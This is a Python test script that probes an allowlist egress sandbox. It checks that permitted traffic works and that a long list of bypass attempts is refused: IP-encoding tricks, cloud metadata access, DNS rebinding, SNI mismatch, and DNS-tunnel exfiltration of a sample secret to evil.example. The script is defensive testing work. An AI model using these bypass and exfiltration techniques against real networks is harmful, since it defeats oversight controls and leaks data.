#!/usr/bin/python3
"""Runs inside an allowlist sandbox: the allowed paths, then the attacks.
Prints one JSON object per line: {"name", "kind": "allowed"|"attack",
"pass", "detail"}. An attack passes when it was refused; the test that
runs this checks every line, and the lab's logs (DNS queries, connections
to the evil origin and the host's services) on its own.

The allowlist this expects (see tests/egress.rs):
  api.anthropic.com, registry.npmjs.org, pypi.org, files.pythonhosted.org,
  git.lab-allowed.org, http://plain.lab-allowed.org, ssh.lab-allowed.org:22,
  *.rebind.lab-allowed.org, *.rebind.lab-allowed.org:5432,
  **.cloudflare-dns.com
"""
import base64
import ctypes
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

CA = os.environ["LAB_CA"]


def where(var):
    """(host, port) of a proxy variable: the sandbox's loopback in a
    container, the guest's gateway in a VM."""
    hostport = os.environ[var].split("://", 1)[1].rstrip("/")
    host, port = hostport.rsplit(":", 1)
    return host, int(port)


PROXY = where("HTTP_PROXY")
SOCKS = where("ALL_PROXY")
# The DNS stub, as the sandbox's resolver is told to reach it.
STUB = next((l.split()[1], 53) for l in open("/etc/resolv.conf")
            if l.startswith("nameserver"))
results = []


def report(name, kind, ok, detail=""):
    print(json.dumps({"name": name, "kind": kind, "pass": bool(ok), "detail": str(detail)[:300]}),
          flush=True)


def check(name, kind):
    def wrap(f):
        try:
            ok, detail = f()
        except OSError as e:
            # The network said no (refused, reset, unreachable, timed out,
            # a TLS handshake cut off): a refused attack, a failed path.
            ok, detail = (kind == "attack"), f"{type(e).__name__}: {e}"
        except Exception as e:
            # A bug in the check itself proves nothing either way.
            ok, detail = False, f"the check failed: {type(e).__name__}: {e}"
        report(name, kind, ok, detail)
        return f
    return wrap


def connect_via_proxy(target, timeout=5):
    """CONNECT through the HTTP proxy; returns (status, headers, socket)."""
    s = socket.create_connection(PROXY, timeout=timeout)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    line = head.split(b"\r\n", 1)[0].decode(errors="replace")
    status = int(line.split()[1]) if len(line.split()) > 1 else 0
    return status, head.decode(errors="replace"), s


def refused_connect(target):
    status, head, s = connect_via_proxy(target)
    s.close()
    return status == 403, f"{status} {head.splitlines()[-3:] if head else ''}"


def tls_over(sock, sni, timeout=5):
    ctx = ssl.create_default_context(cafile=CA)
    if sni is None:
        ctx.check_hostname = False
    sock.settimeout(timeout)
    t = ctx.wrap_socket(sock, server_hostname=sni)
    t.sendall(f"GET / HTTP/1.1\r\nHost: {sni or 'x'}\r\nConnection: close\r\n\r\n".encode())
    data = b""
    while True:
        c = t.recv(4096)
        if not c:
            break
        data += c
    return data.decode(errors="replace")


def tls_refused(sock, sni):
    """An attack through an open connection: passes when the TLS handshake
    (naming `sni`) is cut off."""
    try:
        return False, tls_over(sock, sni)
    except (ssl.SSLError, OSError) as e:
        return True, e


def tls_refused_in_tunnel(sni):
    """CONNECT an allowed name, then say `sni` in the ClientHello. A CONNECT
    that is not answered 200 fails the check: it would test nothing."""
    status, _, s = connect_via_proxy("api.anthropic.com:443")
    if status != 200:
        return False, status
    return tls_refused(s, sni)


def curl(*args):
    p = subprocess.run(["curl", "-sS", "-m", "10", "--cacert", CA, *args],
                       capture_output=True, text=True)
    return p.returncode, p.stdout + p.stderr


def client_hello(sni):
    """The ClientHello Python's TLS stack would send, as bytes."""
    ctx = ssl.create_default_context(cafile=CA)
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def dns_query(name, qtype, server=STUB):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        b = label.encode()
        q += bytes([len(b)]) + b
    q += b"\x00" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, server)
    r = s.recv(4096)
    return r[3] & 0x0F, struct.unpack(">H", r[6:8])[0]


def socks_connect(host, port, atyp="domain"):
    s = socket.create_connection(SOCKS, timeout=5)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    if atyp == "domain":
        h = host.encode()
        addr = b"\x03" + bytes([len(h)]) + h
    elif atyp == "ipv4":
        addr = b"\x01" + socket.inet_aton(host)
    else:
        addr = b"\x04" + socket.inet_pton(socket.AF_INET6, host)
    s.sendall(b"\x05\x01\x00" + addr + struct.pack(">H", port))
    rep = s.recv(10)
    return rep[1] if len(rep) > 1 else -1, s


# ---------------------------------------------------------------- allowed

@check("https through HTTPS_PROXY (curl)", "allowed")
def _():
    rc, out = curl("https://api.anthropic.com/")
    return rc == 0 and "lab-ok https host=api.anthropic.com" in out, out


@check("mixed-case name through the proxy", "allowed")
def _():
    rc, out = curl("https://API.Anthropic.COM/")
    return rc == 0 and "lab-ok https" in out, out


@check("https through the transparent listener (curl ignoring the proxy)", "allowed")
def _():
    rc, out = curl("--noproxy", "*", "https://api.anthropic.com/")
    return rc == 0 and "lab-ok https host=api.anthropic.com" in out, out


@check("plain http (absolute-form) through the proxy", "allowed")
def _():
    rc, out = curl("http://plain.lab-allowed.org/")
    return rc == 0 and "lab-ok http host=plain.lab-allowed.org" in out, out


@check("socks5h through the SOCKS listener", "allowed")
def _():
    rc, out = curl("--noproxy", "*", "--socks5-hostname", f"{SOCKS[0]}:{SOCKS[1]}",
                   "https://api.anthropic.com/")
    return rc == 0 and "lab-ok https" in out, out


@check("ClientHello split into 1-byte segments, allowed name", "allowed")
def _():
    status, _, s = connect_via_proxy("api.anthropic.com:443")
    if status != 200:
        return False, status
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    hello = client_hello("api.anthropic.com")
    for b in hello:
        s.send(bytes([b]))
        time.sleep(0.001)
    s.settimeout(5)
    reply = s.recv(5)
    # A TLS record back (0x16 handshake): the tunnel reached the server.
    return reply[:1] == b"\x16", reply


@check("ssh-like TCP on an allowed extra port (transparent, port 22)", "allowed")
def _():
    ip = socket.gethostbyname("ssh.lab-allowed.org")
    s = socket.create_connection((ip, 22), timeout=5)
    banner = s.recv(100)
    return banner.startswith(b"SSH-2.0-lab"), f"{ip} {banner!r}"


@check("git clone over https", "allowed")
def _():
    p = subprocess.run(["git", "-c", f"http.sslCAInfo={CA}", "clone", "-q",
                        "https://git.lab-allowed.org/repo.git", "/tmp/clone"],
                       capture_output=True, text=True, timeout=60)
    ok = p.returncode == 0 and os.path.exists("/tmp/clone/README")
    return ok, p.stderr


@check("pip download from a PyPI mirror", "allowed")
def _():
    p = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "-q",
                        "--cert", CA, "-d", "/tmp/pip", "--index-url",
                        "https://pypi.org/simple/", "labpkg"],
                       capture_output=True, text=True, timeout=120)
    got = os.listdir("/tmp/pip") if os.path.isdir("/tmp/pip") else []
    return p.returncode == 0 and any(f.startswith("labpkg") for f in got), p.stderr[-300:]


@check("npm view against an npm registry mirror", "allowed")
def _():
    p = subprocess.run(["npm", "view", "labpkg", "version", "--registry",
                        "https://registry.npmjs.org/", "--cafile", CA],
                       capture_output=True, text=True, timeout=120,
                       env={**os.environ, "npm_config_cache": "/tmp/npm-cache"})
    return p.returncode == 0 and "1.2.3" in p.stdout, p.stdout + p.stderr[-300:]


@check("Node fetch (ignores proxy variables: the transparent path)", "allowed")
def _():
    p = subprocess.run(["node", "-e",
                        "fetch('https://api.anthropic.com/').then(r=>r.text())"
                        ".then(t=>console.log(t)).catch(e=>{console.error(e);process.exit(3)})"],
                       capture_output=True, text=True, timeout=60,
                       env={**os.environ, "NODE_EXTRA_CA_CERTS": CA})
    return p.returncode == 0 and "lab-ok https" in p.stdout, p.stdout + p.stderr[-300:]


# ---------------------------------------------------------------- attacks

for target in [
    "evil.example:443",
    "api.anthropic.com:8443",       # allowed name, other port
    "api.anthropic.com:80",         # 443 only
    "11.0.0.11:443",                # IP literal
    "11.0.0.10:443",                # even the allowed server, by address
    "2130706433:443",               # 127.0.0.1, decimal
    "0x7f.1:443",                   # 127.0.0.1, hex shorthand
    "0177.0.0.1:443",               # 127.0.0.1, octal
    "127.1:3128",                   # the proxy itself
    "localhost:3128",               # the proxy itself, by name
    "[::1]:3128",                   # the proxy itself, IPv6
    "[::ffff:7f00:1]:443",          # IPv4-mapped loopback
    "[::ffff:11.0.0.10]:443",       # IPv4-mapped lab server
    "[64:ff9b::b00:a]:443",         # NAT64 of 11.0.0.10
    "[2002:b00:a::1]:443",          # 6to4 of 11.0.0.10
    "[fe80::1%25lo]:5432",          # IPv6 link-local to a host service
    "169.254.169.254:80",           # cloud metadata
    "evil.example.:443",            # trailing dot
    "xn--evl-4na.example:443",      # punycode
    "api.anthropic.com.evil.example:443",
    "api.anthropic.com%2eevil.example:443",
    "user@evil.example:443",        # userinfo
    "cloudflare-dns.com:443",       # DoH behind a wildcard
    "dns.google:443",               # DoH, not listed
    "lo.rebind.lab-allowed.org:443",     # allowed name -> 127.0.0.1
    "ten.rebind.lab-allowed.org:443",    # allowed name -> 10.0.0.5
    "meta.rebind.lab-allowed.org:443",   # allowed name -> 169.254.169.254
    "host.rebind.lab-allowed.org:5432",  # allowed name -> the host's own address
    "cgnat.rebind.lab-allowed.org:443",  # allowed name -> 100.64.0.1
    "mapped.rebind.lab-allowed.org:443", # allowed name -> ::ffff:127.0.0.1
    "nat64.rebind.lab-allowed.org:443",  # allowed name -> 64:ff9b::10.0.0.5
]:
    check(f"CONNECT {target}", "attack")(lambda t=target: refused_connect(t))


@check("CONNECT refusal names the rule to add", "attack")
def _():
    status, head, s = connect_via_proxy("evil.example:443")
    s.close()
    return status == 403 and 'X-Agentctl-Denied' in head and '"evil.example"' in head, head


@check("SNI mismatch: CONNECT an allowed name, say another in the ClientHello", "attack")
def _():
    return tls_refused_in_tunnel("evil.example")


@check("no SNI in the ClientHello", "attack")
def _():
    return tls_refused_in_tunnel(None)


@check("SNI mismatch split across 1-byte segments", "attack")
def _():
    status, _, s = connect_via_proxy("api.anthropic.com:443")
    if status != 200:
        return False, status
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for b in client_hello("evil.example"):
        try:
            s.send(bytes([b]))
        except OSError as e:
            return True, e
        time.sleep(0.001)
    s.settimeout(5)
    try:
        reply = s.recv(5)
    except OSError as e:
        return True, e
    return reply == b"", reply


@check("plain data instead of a ClientHello on 443", "attack")
def _():
    status, _, s = connect_via_proxy("api.anthropic.com:443")
    if status != 200:
        return False, status
    s.sendall(b"GET / HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")
    s.settimeout(5)
    try:
        return s.recv(100) == b"", "closed"
    except OSError as e:
        return True, e


@check("absolute-form http to a denied host", "attack")
def _():
    rc, out = curl("-o", "/dev/null", "-w", "%{http_code}", "http://evil.example/")
    return out.strip().endswith("403"), out


@check("absolute-form with userinfo that hides the real host", "attack")
def _():
    rc, out = curl("-o", "/dev/null", "-w", "%{http_code}",
                   "http://plain.lab-allowed.org@evil.example/")
    return out.strip().endswith("403"), out


@check("Host header of a denied host on an allowed plain-http request", "attack")
def _():
    rc, out = curl("-H", "Host: evil.example", "http://plain.lab-allowed.org/")
    # Allowed, but the request reaches the allowed origin with its own name.
    return "host=plain.lab-allowed.org" in out, out


@check("transparent 443 to a fake address with another SNI", "attack")
def _():
    ip = socket.gethostbyname("api.anthropic.com")
    return tls_refused(socket.create_connection((ip, 443), timeout=5), "evil.example")


@check("transparent port 22 to a name allowed only on 443", "attack")
def _():
    ip = socket.gethostbyname("api.anthropic.com")
    s = socket.create_connection((ip, 22), timeout=5)
    s.settimeout(5)
    try:
        return s.recv(100) == b"", "closed"
    except OSError as e:
        return True, e


@check("transparent 443 to a fake-range address the stub never gave", "attack")
def _():
    given = socket.gethostbyname("api.anthropic.com").rsplit(".", 1)[0]
    s = socket.create_connection((given + ".209", 443), timeout=5)
    return tls_refused(s, "api.anthropic.com")


@check("SOCKS5 to a denied name", "attack")
def _():
    code, s = socks_connect("evil.example", 443)
    return code != 0, code


@check("SOCKS5 to an IP (ATYP 1)", "attack")
def _():
    code, s = socks_connect("11.0.0.10", 443, "ipv4")
    return code != 0, code


@check("SOCKS5 to an IPv6 loopback (ATYP 4)", "attack")
def _():
    code, s = socks_connect("::1", 3128, "ipv6")
    return code != 0, code


@check("getaddrinfo of a denied name", "attack")
def _():
    try:
        return False, socket.gethostbyname("evil.example")
    except socket.gaierror as e:
        return True, e


@check("DNS tunnel: TXT query through the stub", "attack")
def _():
    rcode, an = dns_query("c2VjcmV0.evil.example", 16)
    return rcode == 5 and an == 0, f"rcode {rcode} answers {an}"


@check("DNS tunnel: long label under an allowed name", "attack")
def _():
    payload = base64.b32encode(b"AKIAIOSFODNN7EXAMPLE-secret").decode().strip("=").lower()
    rcode, an = dns_query(f"{payload}.api.anthropic.com", 1)
    return rcode == 5 and an == 0, f"rcode {rcode} answers {an}"


@check("DNS tunnel: TXT for an allowed name is not forwarded", "attack")
def _():
    rcode, an = dns_query("api.anthropic.com", 16)
    return an == 0, f"rcode {rcode} answers {an}"


@check("DNS straight to the lab resolver (UDP 53 out)", "attack")
def _():
    try:
        rcode, an = dns_query("evil.example", 1, ("11.0.0.53", 53))
        return False, rcode
    except OSError as e:
        return True, e


@check("UDP to an allowed server (QUIC on 443)", "attack")
def _():
    # In a container the datagram cannot even leave (no route); a VM's
    # guest has a gateway, whose namespace has no way out. Either way no
    # answer comes, and the lab's counters show nothing arrived.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(b"\xc0" + b"q" * 1200, ("11.0.0.10", 443))
        s.recv(10)
        return False, "answered"
    except OSError as e:
        return True, e


@check("UDP to a fake address of an allowed name", "attack")
def _():
    ip = socket.gethostbyname("api.anthropic.com")
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"\xc0" + b"q" * 100, (ip, 443))
    try:
        s.recv(10)
        return False, "answered"
    except OSError as e:
        return True, e


@check("direct TCP to the lab server, bypassing the proxy", "attack")
def _():
    try:
        socket.create_connection(("11.0.0.10", 443), timeout=3)
        return False, "connected"
    except OSError as e:
        return True, e


@check("direct TCP over IPv6", "attack")
def _():
    try:
        socket.create_connection(("2001:db8::10", 443), timeout=3)
        return False, "connected"
    except OSError as e:
        return True, e


@check("AF_VSOCK socket", "attack")
def _():
    try:
        socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK
        return False, "created"
    except OSError as e:
        return True, e


@check("AF_PACKET raw socket", "attack")
def _():
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        return False, "created"
    except OSError as e:
        return True, e


@check("io_uring_setup", "attack")
def _():
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    r = libc.syscall(425, 8, params)
    return r < 0, f"ret {r} errno {ctypes.get_errno()}"


@check("add an address and a route (root in the user namespace)", "attack")
def _():
    p = subprocess.run(["ip", "addr", "add", "11.0.0.99/24", "dev", "lo"],
                       capture_output=True, text=True)
    q = subprocess.run(["ip", "route", "add", "11.0.0.0/24", "dev", "lo"],
                       capture_output=True, text=True)
    return p.returncode != 0 and q.returncode != 0, p.stderr + q.stderr


@check("bind the proxy's port to take its place", "attack")
def _():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind(PROXY)
        s.listen(1)
        return False, "bound"
    except OSError as e:
        return True, e


@check("a request head too large for the proxy", "attack")
def _():
    s = socket.create_connection(PROXY, timeout=5)
    try:
        s.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\n" + b"X: " + b"a" * 70000 + b"\r\n\r\n")
    except OSError as e:
        return True, e
    s.settimeout(5)
    try:
        line = s.recv(100)
    except OSError as e:
        return True, e
    return not line.startswith(b"HTTP/1.1 200"), line[:40]
